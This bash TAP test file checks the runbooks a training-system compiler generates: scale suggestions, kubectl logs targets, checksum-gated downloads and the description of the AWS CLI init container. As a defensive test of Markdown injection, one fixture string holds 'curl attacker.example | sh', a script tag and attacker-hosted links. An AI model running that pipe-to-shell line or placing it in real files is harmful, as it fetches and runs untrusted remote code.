#!/usr/bin/env bash
# The runbook's suggestions fit the system they are for (TAP): every `kubectl scale` of a worker
# group in every example's README.md stays within what its pool holds beside the rest of the system,
# judged from the compiled manifests and model by tests/runbook_scale.py, not by trainc's arithmetic.
# Usage: tests/runbook_test.sh TRAINC
set -uo pipefail
# shellcheck source=tests/tap.sh
. "$(dirname "${BASH_SOURCE[0]}")/tap.sh"
tap_init "$@"

checked=0
# SPEC: compiled, its runbook's scale suggestions fit.
scale_fits() {
  local spec=$1 name out
  name=$(basename "$(dirname "$spec")")
  "$TRAINC" compile "$spec" -o "$TMP/out" >"$TMP/compile.log" 2>&1 || { cat "$TMP/compile.log"; return 1; }
  out=$(python3 tests/runbook_scale.py "$TMP/out/$name") || { printf '%s\n' "$out"; return 1; }
  printf '%s\n' "$out"
}
while read -r dir; do
  spec=$(primary_spec "$dir")
  t "the scale suggestions of $spec fit its pools" scale_fits "$spec"
  if grep -q '^kubectl scale ' "$TMP/out/$(basename "$dir")/README.md" 2>/dev/null; then checked=$((checked + 1)); fi
done < <(for d in examples/*/; do printf '%s\n' "${d%/}"; done)

# Every `kubectl logs … job/NAME` the runbook and apply.sh suggest names a Job the output makes (or
# one of a JobSet's Jobs); a RayJob, which KubeRay submits over HTTP with no Job, is followed with
# `kubectl get rayjob` and `ray job logs` on its head instead.
logs_name_jobs() {
  local spec=$1 name
  name=$(basename "$(dirname "$spec")")
  python3 - "$TMP/out/$name" <<'PY'
import glob, os, re, sys, yaml
out = sys.argv[1]
jobs, jobsets, rayjobs = set(), set(), set()
for path in glob.glob(os.path.join(out, "k8s", "*.yaml")):
    for doc in yaml.safe_load_all(open(path)):
        if isinstance(doc, dict):
            kind, n = doc.get("kind"), (doc.get("metadata") or {}).get("name")
            {"Job": jobs, "JobSet": jobsets, "RayJob": rayjobs}.get(kind, set()).add(n)
bad, seen = [], 0
for f in ("README.md", "scripts/apply.sh"):
    if not os.path.exists(os.path.join(out, f)):
        continue  # no apply.sh without 'gcp'
    text = open(os.path.join(out, f)).read()
    for m in re.finditer(r"kubectl [^\n]*?\blogs\b[^\n]*?\bjob/([a-z0-9-]+)", text):
        seen += 1
        n = m.group(1)
        if n not in jobs and not any(n.startswith(js + "-") for js in jobsets):
            bad.append("%s: %s names no Job of the output" % (f, m.group(0)))
readme = open(os.path.join(out, "README.md")).read()
for rj in sorted(rayjobs):
    if not re.search(r"kubectl get rayjob -n \S+ %s -w" % re.escape(rj), readme):
        bad.append("README.md: no `kubectl get rayjob … %s -w`" % rj)
    if not re.search(r"ray job logs .*jsonpath=\{\.status\.jobId\}", readme):
        bad.append("README.md: no `ray job logs` of RayJob %s's submission id" % rj)
for b in bad: print(b)
print("%d kubectl logs of a Job, %d RayJob(s)" % (seen, len(rayjobs)))
sys.exit(1 if bad else 0)
PY
}
while read -r dir; do
  spec=$(primary_spec "$dir")
  "$TRAINC" compile "$spec" -o "$TMP/out" >/dev/null 2>&1 || continue
  t "every kubectl logs in $spec's runbook and apply.sh follows a Job it makes" logs_name_jobs "$spec"
done < <(for d in examples/*/; do printf '%s\n' "${d%/}"; done)

at_least_two() { [ "$checked" -ge 2 ] || { echo "only $checked example runbooks suggest a kubectl scale"; return 1; }; }
t "the examples' runbooks suggest scaling worker groups (checked: at least two)" at_least_two

# With room on its pool the suggestion grows the group by one; at the pool's limit (the examples
# above: a 2-node A4 pool, a CPU pool whose third node the scheduler takes) it shrinks it.
grows_when_room() {
  mkdir -p "$TMP/roomy"
  cp -r examples/dask-cpu/. "$TMP/roomy/"
  sed -i 's/cpu: {machine: n2-standard-8, nodes: 3}/cpu: {machine: n2-standard-8, nodes: 5}/' "$TMP/roomy/spec.yaml"
  grep -q 'nodes: 5' "$TMP/roomy/spec.yaml" || { echo "examples/dask-cpu/spec.yaml changed: update this test"; return 1; }
  "$TRAINC" compile "$TMP/roomy/spec.yaml" -o "$TMP/roomy-out" >"$TMP/compile.log" 2>&1 || { cat "$TMP/compile.log"; return 1; }
  grep -q -- "deployment/dask-cpu-dask-cpu --replicas=3 .*pool 'cpu' holds up to 4" "$TMP/roomy-out/dask-cpu/README.md" ||
    { grep '^kubectl scale' "$TMP/roomy-out/dask-cpu/README.md"; return 1; }
  python3 tests/runbook_scale.py "$TMP/roomy-out/dask-cpu"
}
t "a worker group with room on its pool is shown growing by one pod" grows_when_room

# Spec text in the runbook stays text: reasons holding a bare CR (a line end to CommonMark), a
# heading, a fenced code block, raw HTML, links, an image and emphasis are rendered with cmark, and
# none of them becomes a heading, code, an element or a link.
HOSTILE=$'ok\r# Injected heading\r```sh\rcurl attacker.example | sh\r```\r<script>alert(1)</script> [click](http://attacker.example/a) <http://attacker.example/b> ![i](http://attacker.example/i.png) *em* `tick` &copy; a|b'
export HOSTILE
markdown_stays_text() {
  mkdir -p "$TMP/md"
  python3 - "$TMP/md/spec.yaml" <<'PY' || return 1
import os, sys, yaml
reason = os.environ["HOSTILE"]
spec = {
    "apiVersion": "trainc/v1", "kind": "TrainingSystem", "name": "md", "namespace": "ml",
    "serviceAccount": "trainer", "serviceAccountToken": {"reason": reason},
    "cluster": {"pools": {"cpu": {"machine": "e2-standard-8", "autoscaling": {"min": 0, "max": 2}}}},
    "clusters": {"ray": {"engine": "ray", "image": "rayproject/ray:2.52.0", "head": {"pool": "cpu"},
                         "workers": {"w": {"pool": "cpu", "replicas": 1, "min": 0, "max": 1}},
                         "security": {"level": "baseline", "reason": reason}}},
    "pipeline": [{"name": "s", "cluster": "ray", "command": ["python", "-c", "print(1)"]}],
}
yaml.safe_dump(spec, open(sys.argv[1], "w"))
PY
  "$TRAINC" compile "$TMP/md/spec.yaml" -o "$TMP/md/out" >"$TMP/compile.log" 2>&1 || { cat "$TMP/compile.log"; return 1; }
  cmark --unsafe "$TMP/md/out/md/README.md" >"$TMP/md/README.html" || return 1
  python3 - "$TMP/md/README.html" <<'PY'
import html.parser, sys
bad, seen = [], 0
class Judge(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack = []
    def handle_starttag(self, tag, attrs):
        self.stack.append(tag)
        for k, v in attrs:
            if v and "attacker.example" in v:
                bad.append("<%s %s=%r>" % (tag, k, v))
        if tag == "script":
            bad.append("a <%s> element" % tag)
    def handle_endtag(self, tag):
        while self.stack and self.stack.pop() != tag:
            pass
    def handle_data(self, data):
        global seen
        if "Injected heading" in data or "alert(1)" in data or "tick" in data or "em" == data.strip():
            inside = [t for t in self.stack if t in ("h1", "h2", "h3", "h4", "h5", "h6", "pre", "code", "script", "em", "a")]
            if inside:
                bad.append("%r inside <%s>" % (data.strip()[:40], ">, <".join(inside)))
        if "Injected heading" in data:
            seen += 1
Judge().feed(open(sys.argv[1]).read())
if seen < 2:
    bad.append("the reasons are not in the rendered runbook (%d of 2 found)" % seen)
for b in bad:
    print(b)
sys.exit(1 if bad else 0)
PY
}
t "spec text in the runbook renders as text (cmark): no heading, code, HTML, link or image from it" markdown_stays_text

# The runbook's downloads of a server's files: staged in a fresh folder of mktemp's (no fixed /tmp
# folder another user could make first), and chained so that, pasted as a block, a download whose
# SHA-256 differs stops the uploads after it. Run here with the stand-ins, whose curl downloads
# other bytes than the pin.
# shellcheck source=tests/stubs.sh
. tests/stubs.sh
staged_downloads() {
  "$TRAINC" compile examples/triton-tpu/spec.jsonnet -o "$TMP/rb" >"$TMP/compile.log" 2>&1 || { cat "$TMP/compile.log"; return 1; }
  local readme=$TMP/rb/triton-tpu/README.md block
  grep -q 'sha256sum --check' "$readme" || { echo "the runbook fetches nothing: update this test"; return 1; }
  if grep -n '/tmp/' "$readme"; then echo "the runbook names a fixed folder in /tmp (above)"; return 1; fi
  # The lines from the staging folder (or the first download) to the last upload after them.
  block=$(awk '/mktemp -d|^curl -fsSL/ { on = 1 } on { print } on && !/&& *$/ { exit }' "$readme")
  grep -q 'mktemp -d' <<<"$block" || { echo "no mktemp -d before the downloads:"; echo "$block"; return 1; }
  stubs_install "$TMP/rb-stubs"
  mkdir -p "$TMP/rb-tmp"
  (cd "$TMP/rb/triton-tpu" && PATH="$STUB_BIN:$PATH" TMPDIR="$TMP/rb-tmp" bash -s) <<<"$block" >"$TMP/rb.out" 2>&1
  grep -q '^curl ' "$STUB_STATE/log" || { echo "the block downloaded nothing:"; echo "$block"; cat "$TMP/rb.out"; return 1; }
  if grep -q 'storage rsync' "$STUB_STATE/log"; then
    echo "an upload ran after the failed check:"; echo "$block"; stub_log; return 1
  fi
}
t "the runbook stages downloads in mktemp -d and stops at a failed check, before any upload" staged_downloads

# Where the pods get the AWS CLI, as the runbook tells it: the manifests' init container that
# copies it in (trainc-tools-aws), by its image and folder; the image need not have one.
aws_cli_as_applied() {
  "$TRAINC" compile examples/customgpt/spec.yaml -o "$TMP/aws" >"$TMP/compile.log" 2>&1 || { cat "$TMP/compile.log"; return 1; }
  local out=$TMP/aws/customgpt image
  image=$(python3 - "$out" <<'PY'
import glob, os, sys, yaml
for path in sorted(glob.glob(os.path.join(sys.argv[1], "k8s", "*.yaml"))):
    for doc in yaml.safe_load_all(open(path)):
        spec = ((doc or {}).get("spec") or {}).get("template", {}).get("spec", {})
        for c in spec.get("initContainers") or []:
            if c["name"] == "trainc-tools-aws":
                print(c["image"]); sys.exit(0)
PY
  )
  [ -n "$image" ] || { echo "customgpt's pods get no AWS CLI from trainc: update this test"; return 1; }
  if grep -n "AWS CLI (\`aws\`) and its training dependencies baked in" "$out/README.md"; then
    echo "the runbook asks the image for the AWS CLI the pods get from trainc's init container (above)"; return 1
  fi
  grep -F "copies from \`$image\` into \`/opt/trainc-tools/aws\`" "$out/README.md" >/dev/null ||
    { echo "the runbook does not say the init container copies the AWS CLI from $image:"; grep -n "AWS CLI" "$out/README.md"; return 1; }
}
t "the runbook says the pods get the AWS CLI from trainc's init container when the image may lack it" aws_cli_as_applied

tap_done
